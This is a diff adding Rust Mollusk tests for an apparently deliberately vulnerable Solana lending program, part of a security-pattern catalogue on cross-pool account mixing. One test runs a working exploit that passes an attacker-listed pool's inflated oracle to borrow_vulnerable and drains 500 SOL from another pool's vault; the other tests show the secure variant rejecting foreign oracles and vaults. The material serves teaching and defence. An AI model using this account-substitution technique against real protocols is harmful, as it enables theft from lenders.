@@ -0,0 +1,304 @@
+/// # Pattern 202: Cross-Pool Accounts — Mollusk Exploit Tests
+///
+/// Two pools from the same program:
+/// - Pool A: listed by the attacker for a junk mint. Its oracle says 100 SOL
+///   per unit, and its vault is empty.
+/// - Pool B: a real market. Its oracle says 0.1 SOL per unit, and lenders
+///   have put 1,000 SOL in its vault.
+///
+/// Both pools lend at 50% LTV. The attacker holds 10 units of collateral in
+/// each pool.
+///
+/// - Test 1: EXPLOIT — the attacker's pool B position, priced by pool A's
+///   oracle, borrows 500 SOL from pool B's vault through borrow_vulnerable.
+/// - Test 2: SECURE — borrow_secure rejects pool A's oracle next to pool B.
+/// - Test 3: SECURE — borrow_secure rejects pool B's vault next to pool A.
+/// - Test 4: SANITY — with pool B's own accounts, the position borrows its
+///   0.5 SOL limit through borrow_secure.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{account_discriminator, ix_discriminator, owned_account};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("EhJkmjGeB6uLG8HLCqcttubNgovZyWFXopKHc1v5kSdU");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const LTV_BPS: u16 = 5_000;
+const COLLATERAL: u64 = 10;
+/// Pool A's oracle price: set by the attacker.
+const JUNK_PRICE: u64 = 100 * SOL;
+/// Pool B's oracle price.
+const REAL_PRICE: u64 = SOL / 10;
+const POOL_B_LIQUIDITY: u64 = 1_000 * SOL;
+
+// Error codes
+const CONSTRAINT_HAS_ONE: u32 = 2001;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Pool account:
+/// [8 disc][32 authority][32 collateral_mint][32 custody][2 ltv_bps][1 bump]
+fn serialize_pool(authority: &Pubkey, collateral_mint: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(107);
+    data.extend_from_slice(&account_discriminator("Pool"));
+    data.extend_from_slice(authority.as_ref());
+    data.extend_from_slice(collateral_mint.as_ref());
+    data.extend_from_slice(Pubkey::new_unique().as_ref()); // custody
+    data.extend_from_slice(&LTV_BPS.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize an Oracle account: [8 disc][32 pool][8 price][1 bump]
+fn serialize_oracle(pool: &Pubkey, price: u64) -> Vec<u8> {
+    let mut data = Vec::with_capacity(49);
+    data.extend_from_slice(&account_discriminator("Oracle"));
+    data.extend_from_slice(pool.as_ref());
+    data.extend_from_slice(&price.to_le_bytes());
+    data.push(255);
+    data
+}
+
+/// Serialize a Vault account: [8 disc][32 pool][1 bump]
+fn serialize_vault(pool: &Pubkey) -> Vec<u8> {
+    let mut data = Vec::with_capacity(41);
+    data.extend_from_slice(&account_discriminator("Vault"));
+    data.extend_from_slice(pool.as_ref());
+    data.push(255);
+    data
+}
+
+/// Serialize a Position account:
+/// [8 disc][32 pool][32 owner][8 collateral][8 debt][1 bump]
+fn serialize_position(pool: &Pubkey, owner: &Pubkey, debt: u64) -> Vec<u8> {
+    let mut data = Vec::with_capacity(89);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(pool.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&COLLATERAL.to_le_bytes());
+    data.extend_from_slice(&debt.to_le_bytes());
+    data.push(255);
+    data
+}
+
+/// One pool's accounts, with the attacker's position in it.
+struct Pool {
+    pool: Pubkey,
+    oracle: Pubkey,
+    vault: Pubkey,
+    position: Pubkey,
+    accounts: Vec<(Pubkey, AccountSharedData)>,
+}
+
+impl Pool {
+    fn new(authority: &Pubkey, attacker: &Pubkey, price: u64, liquidity: u64) -> Self {
+        let mint = Pubkey::new_unique();
+        let (pool, bump) = Pubkey::find_program_address(&[b"pool", mint.as_ref()], &PROGRAM_ID);
+        let (oracle, _) = Pubkey::find_program_address(&[b"oracle", pool.as_ref()], &PROGRAM_ID);
+        let (vault, _) = Pubkey::find_program_address(&[b"vault", pool.as_ref()], &PROGRAM_ID);
+        let (position, _) = Pubkey::find_program_address(
+            &[b"position", pool.as_ref(), attacker.as_ref()],
+            &PROGRAM_ID,
+        );
+
+        let accounts = vec![
+            (
+                pool,
+                owned_account(&serialize_pool(authority, &mint, bump), RENT, &PROGRAM_ID),
+            ),
+            (
+                oracle,
+                owned_account(&serialize_oracle(&pool, price), RENT, &PROGRAM_ID),
+            ),
+            (
+                vault,
+                owned_account(&serialize_vault(&pool), RENT + liquidity, &PROGRAM_ID),
+            ),
+            (
+                position,
+                owned_account(&serialize_position(&pool, attacker, 0), RENT, &PROGRAM_ID),
+            ),
+        ];
+
+        Self {
+            pool,
+            oracle,
+            vault,
+            position,
+            accounts,
+        }
+    }
+
+    fn account(&self, key: &Pubkey) -> (Pubkey, AccountSharedData) {
+        self.accounts
+            .iter()
+            .find(|(k, _)| k == key)
+            .cloned()
+            .unwrap()
+    }
+}
+
+/// The attacker's pool A, the real pool B, and the attacker's wallet.
+struct Scenario {
+    attacker: Pubkey,
+    a: Pool,
+    b: Pool,
+}
+
+impl Scenario {
+    fn new() -> Self {
+        let attacker = Pubkey::new_unique();
+        let lister = Pubkey::new_unique();
+        Self {
+            a: Pool::new(&attacker, &attacker, JUNK_PRICE, 0),
+            b: Pool::new(&lister, &attacker, REAL_PRICE, POOL_B_LIQUIDITY),
+            attacker,
+        }
+    }
+
+    /// Borrow `amount` with `pool`'s position and the given oracle and vault,
+    /// each taken from whichever pool holds it.
+    fn borrow(
+        &self,
+        name: &str,
+        pool: &Pool,
+        oracle: &Pool,
+        vault: &Pool,
+        amount: u64,
+    ) -> (Instruction, Vec<(Pubkey, AccountSharedData)>) {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        let ix = Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(pool.pool, false),
+                AccountMeta::new_readonly(oracle.oracle, false),
+                AccountMeta::new(vault.vault, false),
+                AccountMeta::new(pool.position, false),
+                AccountMeta::new(self.attacker, true),
+            ],
+        );
+        let accounts = vec![
+            pool.account(&pool.pool),
+            oracle.account(&oracle.oracle),
+            vault.account(&vault.vault),
+            pool.account(&pool.position),
+            (
+                self.attacker,
+                AccountSharedData::new(RENT, 0, &solana_sdk::system_program::ID),
+            ),
+        ];
+        (ix, accounts)
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_foreign_oracle_prices_borrow_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: borrow_vulnerable with pool B, the attacker's pool B
+    // position, and pool B's vault, but pool A's oracle.
+    //
+    // 10 units × 100 SOL × 50% LTV allows 500 SOL. By pool B's own oracle
+    // the position could borrow 0.5 SOL.
+    //
+    // Expected: SUCCEEDS — the attacker takes 500 SOL from pool B's lenders
+    //           against 1 SOL of collateral.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "cross_pool_accounts");
+    let s = Scenario::new();
+    let (ix, accounts) = s.borrow("borrow_vulnerable", &s.b, &s.a, &s.b, 500 * SOL);
+    let position = serialize_position(&s.b.pool, &s.attacker, 500 * SOL);
+
+    mollusk.process_and_validate_instruction(
+        &ix,
+        &accounts,
+        &[
+            Check::success(),
+            Check::account(&s.b.position).data(&position).build(),
+            Check::account(&s.b.vault)
+                .lamports(RENT + POOL_B_LIQUIDITY - 500 * SOL)
+                .build(),
+            Check::account(&s.attacker)
+                .lamports(RENT + 500 * SOL)
+                .build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_rejects_foreign_oracle() {
+    // -----------------------------------------------------------------------
+    // SECURE: The same mix through borrow_secure.
+    //
+    // Expected: FAILS with ConstraintHasOne (2001) — the oracle's stored
+    //           pool is A, not B.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "cross_pool_accounts");
+    let s = Scenario::new();
+    let (ix, accounts) = s.borrow("borrow_secure", &s.b, &s.a, &s.b, 500 * SOL);
+
+    mollusk.process_and_validate_instruction(
+        &ix,
+        &accounts,
+        &[Check::err(ProgramError::Custom(CONSTRAINT_HAS_ONE))],
+    );
+}
+
+#[test]
+fn secure_rejects_foreign_vault() {
+    // -----------------------------------------------------------------------
+    // SECURE: The attacker stays in pool A, with its own position and
+    // oracle, and passes pool B's vault to be paid from it.
+    //
+    // borrow_vulnerable would pay this too: pool A's price backs a 500 SOL
+    // loan, and the vault is never checked either.
+    //
+    // Expected: FAILS with ConstraintHasOne (2001) — the vault belongs to
+    //           pool B.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "cross_pool_accounts");
+    let s = Scenario::new();
+    let (ix, accounts) = s.borrow("borrow_secure", &s.a, &s.a, &s.b, 500 * SOL);
+
+    mollusk.process_and_validate_instruction(
+        &ix,
+        &accounts,
+        &[Check::err(ProgramError::Custom(CONSTRAINT_HAS_ONE))],
+    );
+}
+
+#[test]
+fn sanity_same_pool_borrow_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: Pool B's position, oracle, and vault together. 10 units ×
+    // 0.1 SOL × 50% allows 0.5 SOL.
+    //
+    // Expected: SUCCEEDS — the position borrows exactly its limit.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "cross_pool_accounts");
+    let s = Scenario::new();
+    let (ix, accounts) = s.borrow("borrow_secure", &s.b, &s.b, &s.b, SOL / 2);
+    let position = serialize_position(&s.b.pool, &s.attacker, SOL / 2);
+
+    mollusk.process_and_validate_instruction(
+        &ix,
+        &accounts,
+        &[
+            Check::success(),
+            Check::account(&s.b.position).data(&position).build(),
+            Check::account(&s.attacker).lamports(RENT + SOL / 2).build(),
+        ],
+    );
+}